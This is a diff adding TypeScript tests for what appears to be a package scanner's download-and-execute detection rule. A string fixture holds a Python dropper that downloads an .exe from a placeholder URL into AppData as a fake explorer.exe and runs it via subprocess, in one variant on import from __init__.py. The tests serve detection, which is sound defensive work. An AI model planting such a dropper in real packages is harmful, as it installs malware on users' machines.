@@ -30,3 +30,20 @@ describe('download-exec: aliases and temp-file droppers', () => {
     expect(maxSev(hits('download-exec', { 'setup.py': src }))).toBe('critical');
   });
 });
+
+describe('download-exec: the dropper split over functions', () => {
+  const DROPPER = (where: string) => `import os, subprocess, threading, requests\npath = os.environ["USERPROFILE"] + "\\\\AppData\\\\Local\\\\explorer.exe"\ndef process():\n    if os.path.exists(path):\n        subprocess.run(path, shell=True)\ndef download():\n    r = requests.get("https://cdn.example.net/attachments/1/2/main.exe?ex=65c7&is=65b5")\n    with open(path, 'wb') as f:\n        f.write(r.content)\ndef execute():\n    threading.Thread(target=process).start()\n${where}`;
+  it('flags an import-time download of an .exe and a process started through Thread(target=...) (critical)', () => {
+    const found = hits('download-exec', { 'pkg/__init__.py': DROPPER('download(); execute()\n') });
+    expect(maxSev(found)).toBe('critical');
+    expect(found[0].message).toMatch(/Windows executable/);
+  });
+  it('does not flag the same functions when nothing calls them on import', () => {
+    expect(['none', 'low', 'medium', 'high']).toContain(maxSev(hits('download-exec', { 'pkg/__init__.py': DROPPER('') })));
+    expect(hits('download-exec', { 'pkg/__init__.py': DROPPER('') }).some((f) => f.severity === 'critical')).toBe(false);
+  });
+  it('does not flag an import-time installer download of a tarball next to a spawn', () => {
+    const src = `import subprocess, urllib.request\ndef fetch():\n    urllib.request.urlretrieve("https://example.org/tool-1.0.tar.gz", "tool.tar.gz")\ndef build():\n    subprocess.check_call(["make"])\nfetch(); build()\n`;
+    expect(hits('download-exec', { 'pkg/__init__.py': src }).some((f) => f.severity === 'critical')).toBe(false);
+  });
+});
